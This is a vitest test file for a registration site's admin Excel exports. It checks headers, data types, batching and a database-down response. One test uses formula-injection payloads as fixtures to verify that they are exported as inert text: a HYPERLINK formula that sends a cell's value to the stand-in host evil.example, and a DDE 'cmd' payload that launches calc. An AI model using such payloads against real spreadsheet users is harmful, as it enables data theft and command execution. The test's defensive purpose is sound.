// The two Excel exports, read back with exceljs the way a spreadsheet program would.
import ExcelJS from 'exceljs';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import exportRegistrations from '../../netlify/functions/admin-export-registrations.mts';
import exportInterests from '../../netlify/functions/admin-export-interests.mts';
import { readWorkbook, registration, request, tokenSecret, useLocalAdminEnv, validToken } from './admin-support.ts';
import { testDatabases, useTestDatabase } from './databases.ts';
import JSZip from 'jszip'; // exceljs's own zip library: read the file's XML as Excel would
import { columnLetter } from '../../netlify/lib/platform/spreadsheet/stream-workbook.ts';

/** Column letters of the cells in `row` whose cell style has quotePrefix="1". */
async function quotePrefixedCells(file: Buffer, row: number): Promise<Set<string>> {
  const zip = await JSZip.loadAsync(file);
  const styles = await zip.file('xl/styles.xml')!.async('string');
  const cellXfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)![1]!;
  const xfs = [...cellXfs.matchAll(/<xf\b[^>]*>/g)].map((m) => m[0]);
  const sheetXml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
  const out = new Set<string>();
  for (const cell of sheetXml.matchAll(new RegExp(`<c r="([A-Z]+)${row}"([^>]*)>`, 'g'))) {
    const style = Number(/\ss="(\d+)"/.exec(cell[2]!)?.[1] ?? 0);
    if (/quotePrefix="1"/.test(xfs[style] ?? '')) out.add(cell[1]!);
  }
  return out;
}

describe.each(testDatabases())('$name', (database) => {
  const suite = useTestDatabase(database);
  beforeEach(() => useLocalAdminEnv());

  const download = async (fn: typeof exportRegistrations, path: string) => fn(request(path, { token: await validToken() }), { params: {} });
  const rowValues = (sheet: ExcelJS.Worksheet, row: number) => (sheet.getRow(row).values as unknown[]).slice(1);

  const registrationHeaders = [
    'ID', 'Registration ID', 'First Name', 'Last Name', 'Email', 'Phone', 'Company', 'Job Title', 'Registration Type',
    'Registration Type Name', 'Room Additions', 'Amount (USD)', 'Status', 'Payment Status', 'State', 'Amount Paid (USD)', 'Paid At (UTC)',
    'Transaction ID', 'Refund Needed', 'Checked In At (UTC)', 'Promo Code', 'Sponsored By', 'Seats', 'Bought By', 'T-Shirt Size',
    'Billing Street', 'Billing City', 'Billing State', 'Billing ZIP', 'Experience', 'Referral', 'Dietary Restrictions',
    'Results Listing', 'Agreed to Terms', 'Created At (UTC)', 'Updated At (UTC)',
  ];

  describe('GET /api/admin/export/registrations', () => {
    it('is an attachment named WOOP_Registrations.xlsx with the xlsx content type', async () => {
      const response = await download(exportRegistrations, '/api/admin/export/registrations');
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(response.headers.get('content-disposition')).toBe('attachment; filename="WOOP_Registrations.xlsx"');
      const sheet = await readWorkbook(response);
      expect(rowValues(sheet, 1)).toEqual(registrationHeaders);
      expect(sheet.actualRowCount).toBe(1);
    });

    it('has one row per registration with every stored field, real dates and dollar amounts', async () => {
      await suite()
        .insertInto('registrations')
        .values([
          registration({ registrationId: 'WOOP-AAA', createdAt: '2026-03-04T05:06:07Z', updatedAt: '2026-03-05T00:00:00Z', promoCode: 'woop100', amountCents: 245000 + 37500 - 10000, amount: '2725.00', paymentStatus: 'paid', referral: 'A friend', dietaryRestrictions: 'None', paidCents: 272500, paidAt: new Date('2026-03-05T00:00:00Z'), paymentTxnId: '8MC585209K746392H', paymentFlag: 'over_capacity', checkedInAt: new Date('2026-09-24T21:30:00Z') }),
          registration({ registrationId: 'WOOP-BBB', registrationType: 'table', roomAdditions: [], amount: '3750.00', amountCents: null, company: null }),
          // A player who used an entry of sponsorship WOOP-SPN (company Bayou Minerals), and one whose sponsorship was deleted.
          registration({ registrationId: 'WOOP-CCC', promoCode: 'entry-aaaaa-bbbbb-ccccc-ddddd', sponsoredBy: 'WOOP-SPN' }),
          registration({ registrationId: 'WOOP-SPN', registrationType: 'table', company: 'Bayou Minerals' }),
          registration({ registrationId: 'WOOP-DDD', sponsoredBy: 'WOOP-GONE', resultsListing: 'hidden' }),
        ])
        .execute();
      const sheet = await readWorkbook(await download(exportRegistrations, '/api/admin/export/registrations'));
      expect(sheet.actualRowCount).toBe(6);
      const header = rowValues(sheet, 1) as string[];
      const record = (row: number) => Object.fromEntries(header.map((name, i) => [name, sheet.getRow(row).getCell(i + 1).value]));

      const first = record(2);
      expect(first).toMatchObject({
        'Registration ID': 'WOOP-AAA', 'First Name': 'Ada', 'Last Name': 'Lovelace', Phone: '3375550100', Company: 'Analytical Engines LLC',
        'Registration Type': 'all-in', 'Registration Type Name': 'All In', 'Room Additions': 'Friday Night Room', 'Amount (USD)': 2725,
        Status: 'registered', 'Payment Status': 'paid', State: 'paid', 'Amount Paid (USD)': 2725, 'Transaction ID': '8MC585209K746392H',
        'Refund Needed': 'over_capacity', 'Promo Code': 'woop100', 'T-Shirt Size': 'L', 'Billing City': 'Lake Charles',
        'Billing ZIP': '70601', Experience: 'Not specified', Referral: 'A friend', 'Dietary Restrictions': 'None', 'Results Listing': 'name-and-company', 'Agreed to Terms': 'Yes',
      });
      expect(first['Created At (UTC)']).toEqual(new Date('2026-03-04T05:06:07Z'));
      expect(first['Updated At (UTC)']).toEqual(new Date('2026-03-05T00:00:00Z'));
      expect(first['Paid At (UTC)']).toEqual(new Date('2026-03-05T00:00:00Z'));
      expect(first['Checked In At (UTC)']).toEqual(new Date('2026-09-24T21:30:00Z'));
      const amountCell = sheet.getRow(2).getCell(header.indexOf('Amount (USD)') + 1);
      expect(amountCell.type).toBe(ExcelJS.ValueType.Number);
      expect(amountCell.numFmt).toContain('$');
      expect(sheet.getRow(2).getCell(header.indexOf('Created At (UTC)') + 1).type).toBe(ExcelJS.ValueType.Date);

      // The text amount stands in when cents are missing; a missing company is an empty cell.
      expect(record(3)).toMatchObject({ 'Registration ID': 'WOOP-BBB', 'Registration Type Name': 'Table Sponsor', 'Amount (USD)': 3750, 'Room Additions': null, Company: null });
      // Pending with no hold left (the fixture has none): expired; nothing paid.
      expect(record(3)).toMatchObject({ State: 'expired', 'Amount Paid (USD)': null, 'Paid At (UTC)': null, 'Transaction ID': null, 'Checked In At (UTC)': null });
      // "Sponsored by": the sponsor's company and sponsorship ID; the ID alone once the sponsorship is gone; empty otherwise.
      expect(record(4)).toMatchObject({ 'Registration ID': 'WOOP-CCC', 'Sponsored By': 'Bayou Minerals (WOOP-SPN)', 'Promo Code': 'entry-aaaaa-bbbbb-ccccc-ddddd' });
      expect(record(6)).toMatchObject({ 'Registration ID': 'WOOP-DDD', 'Sponsored By': 'WOOP-GONE', 'Results Listing': 'hidden' });
      expect(first['Sponsored By']).toBeNull();
    });

    it('freezes the header row, filters it and sizes the columns', async () => {
      const sheet = await readWorkbook(await download(exportRegistrations, '/api/admin/export/registrations'));
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.autoFilter).toBe('A1:AJ1');
      expect(sheet.getColumn(5).width).toBe(30);
    });

    it('writes formula-looking text as plain text cells, never as formulas', async () => {
      const attacks = {
        firstName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        lastName: '+SUM(1,2)',
        company: '-2+3',
        jobTitle: '@SUM(1,1)',
        referral: '\t=1+1',
        dietaryRestrictions: '\r=cmd|\' /C calc\'!A0',
        phone: '+1 337 555 0100',
      };
      await suite().insertInto('registrations').values(registration({ registrationId: 'WOOP-EVIL', ...attacks })).execute();
      const file = Buffer.from(await (await download(exportRegistrations, '/api/admin/export/registrations')).arrayBuffer());
      const sheet = await readWorkbook(new Response(file));
      const header = rowValues(sheet, 1) as string[];
      const columnOf: Record<keyof typeof attacks, string> = {
        firstName: 'First Name', lastName: 'Last Name', company: 'Company', jobTitle: 'Job Title', referral: 'Referral',
        dietaryRestrictions: 'Dietary Restrictions', phone: 'Phone',
      };
      for (const [field, text] of Object.entries(attacks) as Array<[keyof typeof attacks, string]>) {
        const cell = sheet.getRow(2).getCell(header.indexOf(columnOf[field]) + 1);
        expect(cell.type, field).toBe(ExcelJS.ValueType.String);
        expect(cell.formula, field).toBeUndefined();
        // XML turns a bare CR into LF on reading; the text is otherwise kept exactly.
        expect(cell.value, field).toBe(text.replace(/\r/g, '\n'));
      }
      // Each also carries Excel's quote prefix, so it stays text after an edit (and shows no apostrophe);
      // ordinary text does not.
      const quotePrefixed = await quotePrefixedCells(file, 2);
      for (const field of Object.keys(attacks) as Array<keyof typeof attacks>) {
        expect(quotePrefixed.has(columnLetter(header.indexOf(columnOf[field]) + 1)), field).toBe(true);
      }
      for (const column of ['Email', 'Registration ID', 'Billing City']) expect(quotePrefixed.has(columnLetter(header.indexOf(column) + 1)), column).toBe(false);
    });

    it('streams many rows across several batches in id order', async () => {
      const rows = Array.from({ length: 2503 }, (_, i) => registration({ registrationId: `WOOP-BULK${i}` }));
      for (let i = 0; i < rows.length; i += 500) await suite().insertInto('registrations').values(rows.slice(i, i + 500)).execute();
      const sheet = await readWorkbook(await download(exportRegistrations, '/api/admin/export/registrations'));
      expect(sheet.actualRowCount).toBe(2504);
      expect(sheet.getRow(2).getCell(2).value).toBe('WOOP-BULK0');
      expect(sheet.getRow(2504).getCell(2).value).toBe('WOOP-BULK2502');
    });
  });

  describe('GET /api/admin/export/interests', () => {
    it('is WOOP_Registration_Interests.xlsx with one row per e-mail', async () => {
      await suite().insertInto('registrationInterests').values([
        { email: 'first@example.com', createdAt: '2026-02-01T12:00:00Z' },
        { email: '=1+1@example.com', createdAt: '2026-02-02T12:00:00Z', unsubscribedAt: '2026-03-01T08:00:00Z' },
      ]).execute();
      const response = await download(exportInterests, '/api/admin/export/interests');
      expect(response.headers.get('content-disposition')).toBe('attachment; filename="WOOP_Registration_Interests.xlsx"');
      expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      const sheet = await readWorkbook(response);
      expect(rowValues(sheet, 1)).toEqual(['ID', 'Email', 'Signed Up At (UTC)', 'Unsubscribed', 'Unsubscribed At (UTC)']);
      expect(sheet.actualRowCount).toBe(3);
      expect(sheet.getRow(2).getCell(2).value).toBe('first@example.com');
      expect(sheet.getRow(2).getCell(3).value).toEqual(new Date('2026-02-01T12:00:00Z'));
      expect(sheet.getRow(3).getCell(2).type).toBe(ExcelJS.ValueType.String);
      expect(sheet.getRow(3).getCell(2).value).toBe('=1+1@example.com');
      // An address that used the unsubscribe link is marked: never mail it from the sheet either.
      expect([sheet.getRow(2).getCell(4).value, sheet.getRow(2).getCell(5).value]).toEqual(['No', null]);
      expect([sheet.getRow(3).getCell(4).value, sheet.getRow(3).getCell(5).value]).toEqual(['Yes', new Date('2026-03-01T08:00:00Z')]);
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    });
  });
});

describe('an export while the database is down', () => {
  it('answers 503 before any of the file is sent', async () => {
    const { setDb } = await import('../../netlify/lib/platform/db.ts');
    const { createDb } = await import('../../db/client.ts');
    useLocalAdminEnv();
    const down = await createDb('postgres://nobody@127.0.0.1:1/none', { max: 1 });
    setDb(down);
    const log = vi.spyOn(console, 'error').mockImplementation(() => {});
    try {
      // A signed token (its session row cannot be read while the database is down: that is the 503).
      const { signAdminToken } = await import('../../netlify/lib/team/token.ts');
      const token = await signAdminToken(new TextEncoder().encode(tokenSecret));
      const response = await exportRegistrations(request('/api/admin/export/registrations', { token }), { params: {} });
      expect(response.status).toBe(503);
      expect(response.headers.get('content-disposition')).toBeNull();
    } finally {
      log.mockRestore();
      setDb(undefined);
      await down.destroy();
    }
  });
});
